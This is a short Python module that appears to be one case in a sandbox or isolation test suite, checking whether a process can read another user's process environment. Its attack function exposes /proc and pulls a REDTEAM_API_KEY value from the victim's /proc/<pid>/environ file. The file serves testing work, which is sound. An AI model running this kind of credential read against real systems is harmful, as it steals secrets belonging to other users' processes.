"""Looks for API keys in the environment of the user's other processes."""
# defence: PID namespace and /proc of its own, no capabilities
# holds from: landlock
# needs: root

from pathlib import Path


def attack(host):
    host.uncover_proc()
    text = Path(f"/proc/{host.victim}/environ").read_text()
    return text[text.index("REDTEAM_API_KEY") :].partition("\0")[0] if "API_KEY" in text else None
